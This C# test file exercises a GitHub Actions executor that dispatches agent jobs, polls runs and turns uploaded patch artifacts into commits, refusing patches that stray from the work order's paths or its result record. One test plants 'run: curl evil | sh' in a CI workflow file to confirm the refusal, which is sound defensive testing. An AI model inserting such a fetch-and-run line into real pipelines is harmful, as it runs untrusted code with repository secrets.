using System.IO.Compression;
using System.Net;
using System.Text;
using Autoship.Agents;
using Autoship.Core;
using Autoship.Engine.Executors;
using Autoship.Forge.Git;
using Autoship.Forge.GitHub;
using static Autoship.Engine.Tests.Planning.Fake;

namespace Autoship.Engine.Tests.Executors;

/// <summary>
/// The github-actions executor against canned Actions answers: dispatch, the run completing, its artifact becoming the
/// harness's own commit in the cache repository, and a patch outside the work order's paths refused.
/// </summary>
public sealed class GitHubActionsExecutorTests : IDisposable
{
    private readonly string root = Path.Combine(Path.GetTempPath(), "autoship-gha-" + Guid.NewGuid().ToString("N")[..10]);

    [Fact]
    public async Task Poll_CompletedRunWithArtifact_BecomesTheHarnessCommitOnTheBranch()
    {
        var (repo, baseSha) = await RepositoryAsync();
        var order = Order(Ready(7, "docs"), "docs");
        var patch = await PatchAsync(repo, baseSha, "docs/guide.md", "new line\n");
        var api = new CannedActions(order, baseSha, patch);
        var executor = new GitHubActionsExecutor(Client(api), "autoship-agent.yml", repo, TimeProvider.System);

        var ticket = await executor.DispatchAsync(new JobSpec(order, "version: 1\n", baseSha, repo, root) { Ref = "main" }, CancellationToken.None);
        api.Dispatched.ShouldBe(1);
        api.DispatchBody.ShouldContain("\"order\":\"" + ticket.Id + "\"");
        api.DispatchBody.ShouldNotContain(root, Case.Sensitive, "no local path of the orchestrator leaves the machine");
        (await executor.PollAsync(ticket, CancellationToken.None)).State.ShouldBe(JobState.Running);

        api.Completed = true;
        var done = await executor.PollAsync(ticket, CancellationToken.None);
        done.State.ShouldBe(JobState.Completed, done.Detail);
        var sha = done.Output!.Author!.CommitSha.ShouldNotBeNull();
        (await GitCli.RunAsync(repo, "rev-parse", "refs/heads/" + order.Branch)).Trim().ShouldBe(sha);
        (await GitCli.RunAsync(repo, "show", sha + ":docs/guide.md")).ShouldContain("new line");
        (await GitCli.RunAsync(repo, "rev-parse", sha + "^")).Trim().ShouldBe(baseSha);

        // Dispatching the same work order again finds the run instead of starting a second one.
        await executor.DispatchAsync(new JobSpec(order, "version: 1\n", baseSha, repo, root), CancellationToken.None);
        api.Dispatched.ShouldBe(1);
    }

    [Fact]
    public async Task Poll_PatchOutsideTheWorkOrdersPaths_IsRefusedAndNothingIsCommitted()
    {
        var (repo, baseSha) = await RepositoryAsync();
        var order = Order(Ready(8, "docs"), "docs");
        var patch = await PatchAsync(repo, baseSha, ".github/workflows/ci.yml", "run: curl evil | sh\n");
        var api = new CannedActions(order, baseSha, patch) { Completed = true };
        var executor = new GitHubActionsExecutor(Client(api), "autoship-agent.yml", repo, TimeProvider.System);
        var ticket = await executor.DispatchAsync(new JobSpec(order, "version: 1\n", baseSha, repo, root), CancellationToken.None);

        var status = await executor.PollAsync(ticket, CancellationToken.None);
        status.State.ShouldBe(JobState.Lost);
        status.Detail!.ShouldContain(".github/workflows/ci.yml");
        (await GitCli.TryRunAsync(repo, ["rev-parse", "--verify", "--quiet", "refs/heads/" + order.Branch])).Ok.ShouldBeFalse();
    }

    [Fact]
    public async Task Poll_PatchWhoseLineCountsAreNotTheResultRecords_IsRefused()
    {
        var (repo, baseSha) = await RepositoryAsync();
        var order = Order(Ready(9, "docs"), "docs");
        var patch = await PatchAsync(repo, baseSha, "docs/guide.md", "new line\n");
        var api = new CannedActions(order, baseSha, patch, [new ChangedFile("docs/guide.md", 2, 0)]) { Completed = true };
        var executor = new GitHubActionsExecutor(Client(api), "autoship-agent.yml", repo, TimeProvider.System);
        var ticket = await executor.DispatchAsync(new JobSpec(order, "version: 1\n", baseSha, repo, root), CancellationToken.None);

        var status = await executor.PollAsync(ticket, CancellationToken.None);
        status.State.ShouldBe(JobState.Lost);
        status.Detail!.ShouldContain("+1/-0 lines, but its result record says +2/-0");
        (await GitCli.TryRunAsync(repo, ["rev-parse", "--verify", "--quiet", "refs/heads/" + order.Branch])).Ok.ShouldBeFalse();
    }

    [Fact]
    public async Task Poll_PatchChangingAFileTheResultRecordDoesNotList_IsRefused()
    {
        var (repo, baseSha) = await RepositoryAsync();
        var order = Order(Ready(10, "docs"), "docs");
        var patch = await PatchAsync(repo, baseSha, "docs/guide.md", "new line\n");
        var api = new CannedActions(order, baseSha, patch, [new ChangedFile("docs/other.md", 1, 0)]) { Completed = true };
        var executor = new GitHubActionsExecutor(Client(api), "autoship-agent.yml", repo, TimeProvider.System);
        var ticket = await executor.DispatchAsync(new JobSpec(order, "version: 1\n", baseSha, repo, root), CancellationToken.None);

        var status = await executor.PollAsync(ticket, CancellationToken.None);
        status.State.ShouldBe(JobState.Lost);
        status.Detail!.ShouldContain("changes docs/guide.md, which its result record does not list");
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Poll_FixForward_CommitsOntoThePrHeadOrRefusesAnUnchangedTree(bool changed)
    {
        var (repo, baseSha) = await RepositoryAsync();
        var order = Order(Ready(11, "docs"), "docs", attempt: 2);
        // The PR's head: the previous attempt's commit on top of the base.
        await File.AppendAllTextAsync(Path.Combine(repo, "docs", "guide.md"), "first attempt\n");
        await GitCli.RunAsync(repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qam", "attempt 1");
        var head = (await GitCli.RunAsync(repo, "rev-parse", "HEAD")).Trim();
        await GitCli.RunAsync(repo, "update-ref", "refs/heads/" + order.Branch, head);
        await GitCli.RunAsync(repo, "reset", "-q", "--hard", baseSha);
        // What the runner uploads: the whole change from the fork point (the base), this attempt's line included or not.
        var patch = await GitCli.RunAsync(repo, "diff", "--binary", baseSha, head);
        if (changed)
        {
            await GitCli.RunAsync(repo, "checkout", "-q", head, "--", "docs/guide.md");
            patch = await PatchAsync(repo, baseSha, "docs/guide.md", "second attempt\n");
        }

        var api = new CannedActions(order, baseSha, patch, [new ChangedFile("docs/guide.md", changed ? 2 : 1, 0)]) { Completed = true };
        var executor = new GitHubActionsExecutor(Client(api), "autoship-agent.yml", repo, TimeProvider.System);
        var spec = new JobSpec(order, "version: 1\n", baseSha, repo, root) { AuthorContext = new AuthorContext([]) { PullRequest = 3, ContinueFrom = head } };

        var ticket = await executor.DispatchAsync(spec, CancellationToken.None);
        api.DispatchBody.ShouldContain("\"head\":\"" + head + "\"", customMessage: "the workflow checks out the PR head");
        ticket.FixesPullRequest.ShouldBe(3);
        ticket.ContinueFrom.ShouldBe(head);
        var status = await executor.PollAsync(ticket, CancellationToken.None);

        if (changed)
        {
            status.State.ShouldBe(JobState.Completed, status.Detail);
            var sha = status.Output!.Author!.CommitSha.ShouldNotBeNull();
            (await GitCli.RunAsync(repo, "rev-parse", sha + "^")).Trim().ShouldBe(head, "the commit goes on top of the PR head, not the base");
            (await GitCli.RunAsync(repo, "show", sha + ":docs/guide.md")).TrimEnd().ShouldBe("guide\nfirst attempt\nsecond attempt");
            (await GitCli.RunAsync(repo, "rev-parse", "refs/heads/" + order.Branch)).Trim().ShouldBe(sha);
        }
        else
        {
            status.State.ShouldBe(JobState.Lost);
            status.Detail!.ShouldContain("leaves the tree of the PR head " + head[..12] + " as it is: no change to push");
            (await GitCli.RunAsync(repo, "rev-parse", "refs/heads/" + order.Branch)).Trim().ShouldBe(head);
        }
    }

    public void Dispose()
    {
        try
        {
            Directory.Delete(root, recursive: true);
        }
        catch (IOException)
        {
        }
    }

    private static GitHubActionsClient Client(HttpMessageHandler api) =>
        new(new GitHubForgeOptions("octocat", "hello-world", new Uri("http://127.0.0.1:9/"), new StaticTokenSource("t")) { Resilience = new ResilienceSettings(MaxRetries: 0) }, api);

    private async Task<(string Repo, string Base)> RepositoryAsync()
    {
        var repo = Path.Combine(root, "repo");
        Directory.CreateDirectory(Path.Combine(repo, "docs"));
        await File.WriteAllTextAsync(Path.Combine(repo, "docs", "guide.md"), "guide\n");
        await GitCli.RunAsync(repo, "init", "-q", "-b", "main");
        await GitCli.RunAsync(repo, "add", ".");
        await GitCli.RunAsync(repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "base");
        return (repo, (await GitCli.RunAsync(repo, "rev-parse", "HEAD")).Trim());
    }

    /// <summary>The patch a runner would upload: <paramref name="path"/> gains <paramref name="line"/> on top of the base.</summary>
    private static async Task<string> PatchAsync(string repo, string baseSha, string path, string line)
    {
        var file = Path.Combine(repo, path);
        Directory.CreateDirectory(Path.GetDirectoryName(file)!);
        await File.AppendAllTextAsync(file, line);
        await GitCli.RunAsync(repo, "add", ".");
        var patch = await GitCli.RunAsync(repo, "diff", "--cached", "--binary", baseSha);
        await GitCli.RunAsync(repo, "reset", "-q", "--hard", baseSha);
        return patch;
    }

    /// <summary>Answers the four Actions operations as GitHub documents them.</summary>
    private sealed class CannedActions(WorkOrder order, string baseSha, string patch, IReadOnlyList<ChangedFile>? recorded = null) : HttpMessageHandler
    {
        public int Dispatched { get; private set; }

        public string DispatchBody { get; private set; } = string.Empty;

        public bool Completed { get; set; }

        protected override async Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
        {
            var path = request.RequestUri!.AbsolutePath;
            var id = JobIds.For(order);
            if (request.Method == HttpMethod.Post && path.EndsWith("/dispatches", StringComparison.Ordinal))
            {
                Dispatched++;
                DispatchBody = await request.Content!.ReadAsStringAsync(cancellationToken);
                return new HttpResponseMessage(HttpStatusCode.NoContent);
            }

            if (path.EndsWith("/runs", StringComparison.Ordinal))
            {
                var runs = Dispatched == 0 ? "[]" : $$"""[{"id": 30433642, "name": "autoship-agent", "display_title": "autoship job {{id}}", "status": "{{(Completed ? "completed" : "in_progress")}}", "conclusion": {{(Completed ? "\"success\"" : "null")}}}]""";
                return Json($$"""{"total_count": 1, "workflow_runs": {{runs}}}""");
            }

            if (path.EndsWith("/artifacts", StringComparison.Ordinal))
            {
                return Json($$"""{"total_count": 1, "artifacts": [{"id": 11, "name": "autoship-job-{{id}}", "expired": false}]}""");
            }

            if (path.EndsWith("/zip", StringComparison.Ordinal))
            {
                return new HttpResponseMessage(HttpStatusCode.OK) { Content = new ByteArrayContent(Zip()) };
            }

            return new HttpResponseMessage(HttpStatusCode.NotFound);
        }

        private static HttpResponseMessage Json(string json) => new(HttpStatusCode.OK) { Content = new StringContent(json, Encoding.UTF8, "application/json") };

        private byte[] Zip()
        {
            var run = new RunRecord("r1", order.Issue, order.Attempt, order.Owner, AgentRole.Author, order.Id, [], Now, Now, "Committed", 0, "1 file", null, null, null, null);
            var files = recorded ?? [new ChangedFile("docs/guide.md", 1, 0)];
            var result = new JobResult(order.Id, baseSha, new AuthorResult(AttemptOutcome.Committed, [], "runner-local-sha", files, run), null)
            {
                PatchSha256 = PatchDigest.Of(new UTF8Encoding(false).GetBytes(patch)),
            };
            using var buffer = new MemoryStream();
            using (var archive = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
            {
                Write(archive, "result.json", JobJson.Write(result));
                Write(archive, "change.patch", patch);
            }

            return buffer.ToArray();
        }

        private static void Write(ZipArchive archive, string name, string text)
        {
            using var writer = new StreamWriter(archive.CreateEntry(name).Open(), new UTF8Encoding(false));
            writer.Write(text);
        }
    }
}
